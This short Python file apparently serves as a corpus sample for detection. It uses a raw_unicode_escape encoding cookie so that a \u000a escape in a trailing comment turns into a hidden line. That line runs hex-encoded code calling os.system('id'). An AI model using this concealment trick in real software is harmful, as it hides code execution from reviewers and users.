# corpus: raw_unicode_escape source cookie where backslash-u000a in a trailing comment hides an exec line
# -*- coding: raw_unicode_escape -*-
import json

settings = json.loads('{"threads": 4, "verbose": false}')  # defaults\u000aexec(bytes.fromhex("696d706f7274206f733b6f732e73797374656d2827696427293b").decode())\u000a#
print(settings["threads"])
